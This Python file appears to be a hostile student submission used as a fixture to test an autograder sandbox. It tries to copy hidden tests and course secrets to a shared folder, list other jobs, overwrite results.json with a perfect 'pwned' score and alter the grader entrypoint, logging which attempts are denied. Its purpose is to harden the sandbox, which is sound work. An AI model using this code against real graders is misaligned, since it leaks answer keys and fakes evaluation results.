"""prodcons.py that goes after PrairieLearn's grader instead of squaring anything.

Submitted as /grade/student/prodcons.py to the external grader image (tests/attacks/
test_prairielearn_attacks.py). Each attempt is logged to /evidence (a folder the test mounts,
open to everyone): the harness empties /tmp of the student's files between calls.
"""
import glob
import os

LOG = "/evidence/attack-log.txt"


def _try(what, action):
    try:
        action()
        outcome = "SUCCEEDED"
    except Exception as exc:  # what the student user may not do fails with an OSError
        outcome = "denied " + type(exc).__name__
    with open(LOG, "a") as log:
        log.write(what + ": " + outcome + "\n")


def _copy(source, leak):
    with open(source) as f:
        data = f.read()
    with open("/evidence/" + leak, "w") as out:
        out.write(data)


def _job_folders():
    found = glob.glob("/tmp/mpgrade-job-*")
    if not found:
        raise FileNotFoundError("no job folder in sight")
    for folder in found:
        os.listdir(folder)


def _write_results():
    with open("/grade/results/results.json", "w") as f:
        f.write('{"gradable": true, "score": 1.0, "message": "pwned"}')


_try("read the baked hidden tests", lambda: _copy("/opt/mpgrade-course/solutions/03_prodcons/test_hidden.py",
                                                 "leaked-baked.py"))
_try("list the baked course", lambda: os.listdir("/opt/mpgrade-course"))
_try("read the question's tests", lambda: _copy("/grade/tests/secret.txt", "leaked-tests.txt"))
_try("read serverFilesCourse", lambda: _copy("/grade/serverFilesCourse/secret.txt", "leaked-course.txt"))
_try("read data.json", lambda: _copy("/grade/data/data.json", "leaked-data.json"))
_try("list /grade", lambda: os.listdir("/grade"))
_try("list the job folders", _job_folders)
_try("write results.json", _write_results)
_try("create a file in the results folder", lambda: open("/grade/results/x", "w").close())
_try("replace the entrypoint", lambda: open("/opt/mpgrade/bin/prairielearn-grade", "a").close())
with open(LOG, "a") as log:
    log.write("uid " + str(os.getuid()) + " gid " + str(os.getgid()) + "\n")


def produce_consume(items, producers, consumers):
    return []


def word_count(lines, workers):
    return {}
